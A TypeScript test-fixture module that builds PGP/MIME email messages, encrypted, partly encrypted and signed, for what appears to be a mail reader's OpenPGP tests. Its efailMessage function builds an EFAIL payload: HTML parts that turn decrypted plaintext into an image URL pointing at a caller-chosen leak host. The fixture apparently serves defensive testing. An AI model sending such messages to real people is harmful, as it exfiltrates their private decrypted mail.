// Messages for the reader's OpenPGP tests, shaped as PGP/MIME clients send them (RFC 3156),
// with real OpenPGP.js ciphertext to a key made for the test file.
import * as openpgp from 'openpgp';

export interface TestKey {
  armoredPrivate: string;
  armoredPublic: string;
  passphrase: string;
  fingerprint: string;
}

export async function makeKey(passphrase = 'correct horse battery'): Promise<TestKey> {
  const { privateKey, publicKey } = await openpgp.generateKey({
    type: 'ecc',
    curve: 'curve25519Legacy',
    userIDs: [{ name: 'Bob Reader', email: 'bob@example.org' }],
    passphrase,
    format: 'armored',
  });
  const key = await openpgp.readKey({ armoredKey: publicKey });
  return {
    armoredPrivate: privateKey,
    armoredPublic: publicKey,
    passphrase,
    fingerprint: key.getFingerprint(),
  };
}

/** The entity a PGP/MIME message encrypts (RFC 3156 §4: a MIME entity with its headers). */
export function innerEntity(text: string, attachment?: { name: string; body: string }): string {
  if (!attachment) return `Content-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n`;
  return (
    'Content-Type: multipart/mixed; boundary="inner"\r\n\r\n' +
    `--inner\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n` +
    `--inner\r\nContent-Type: application/octet-stream; name="${attachment.name}"\r\n` +
    `Content-Disposition: attachment; filename="${attachment.name}"\r\n` +
    `Content-Transfer-Encoding: base64\r\n\r\n${btoa(attachment.body)}\r\n--inner--\r\n`
  );
}

export async function encryptTo(key: TestKey, entity: string): Promise<string> {
  return openpgp.encrypt({
    message: await openpgp.createMessage({ text: entity }),
    encryptionKeys: await openpgp.readKey({ armoredKey: key.armoredPublic }),
    format: 'armored',
  });
}

function headers(subject: string): string {
  return (
    'From: Ana Núñez <ana@example.org>\r\nTo: Bob Reader <bob@example.org>\r\n' +
    `Subject: ${subject}\r\nDate: Sat, 14 Mar 2026 09:30:05 +0000\r\n` +
    `Message-ID: <${crypto.randomUUID()}@example.org>\r\nMIME-Version: 1.0\r\n`
  );
}

/** RFC 3156 §4 multipart/encrypted entity (no message headers). */
export function encryptedEntity(armored: string, boundary = 'enc-1'): string {
  return (
    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\r\n boundary="${boundary}"\r\n\r\n` +
    'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\r\n' +
    `--${boundary}\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n` +
    `--${boundary}\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n` +
    `${armored.replace(/\r?\n/g, '\r\n')}\r\n--${boundary}--\r\n`
  );
}

/** A whole message encrypted (what Buzón, Thunderbird or Mutt send). */
export function encryptedMessage(subject: string, armored: string): File {
  return file(headers(subject) + encryptedEntity(armored));
}

/** A plain text part, then an encrypted part: only the second is covered. */
export function partlyEncryptedMessage(subject: string, armored: string, plain: string): File {
  return file(
    headers(subject) +
      'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n' +
      `--mix\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${plain}\r\n` +
      `--mix\r\n${encryptedEntity(armored)}\r\n--mix--\r\n`,
  );
}

/**
 * EFAIL (Poddebniak et al., 2018): HTML parts around an encrypted part, meant to be joined
 * so the plaintext becomes the query string of an image URL at `leakBase`.
 */
export function efailMessage(subject: string, armored: string, leakBase: string): File {
  return file(
    headers(subject) +
      'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n' +
      `--efail\r\nContent-Type: text/html\r\n\r\n<img src="${leakBase}/leak?\r\n` +
      `--efail\r\n${encryptedEntity(armored)}\r\n` +
      '--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n',
  );
}

/** RFC 3156 §5: a signed message (the signature bytes are whatever the test's service says). */
export function signedMessage(subject: string, text: string): File {
  return file(
    headers(subject) +
      'Content-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol="application/pgp-signature"; boundary="sig"\r\n\r\n' +
      `--sig\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n` +
      '--sig\r\nContent-Type: application/pgp-signature; name="signature.asc"\r\n\r\n' +
      '-----BEGIN PGP SIGNATURE-----\r\n\r\niHUEARYIAB0WIQ==\r\n=abcd\r\n-----END PGP SIGNATURE-----\r\n--sig--\r\n',
  );
}

/** A message whose second part, an attachment, is signed on its own. */
export function partlySignedMessage(subject: string, text: string, filename: string): File {
  return file(
    headers(subject) +
      'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n' +
      `--mix\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n` +
      '--mix\r\nContent-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol="application/pgp-signature"; boundary="sig"\r\n\r\n' +
      `--sig\r\nContent-Type: application/pdf; name="${filename}"\r\n` +
      `Content-Disposition: attachment; filename="${filename}"\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
      'JVBERi0xLjQK\r\n' +
      '--sig\r\nContent-Type: application/pgp-signature; name="signature.asc"\r\n\r\n' +
      '-----BEGIN PGP SIGNATURE-----\r\n\r\niHUEARYIAB0WIQ==\r\n=abcd\r\n-----END PGP SIGNATURE-----\r\n--sig--\r\n' +
      '--mix--\r\n',
  );
}

export function plainMessage(subject: string, text: string): File {
  return file(headers(subject) + `Content-Type: text/plain; charset=utf-8\r\n\r\n${text}\r\n`);
}

function file(text: string): File {
  return new File([text], 'm.eml', { type: 'message/rfc822' });
}
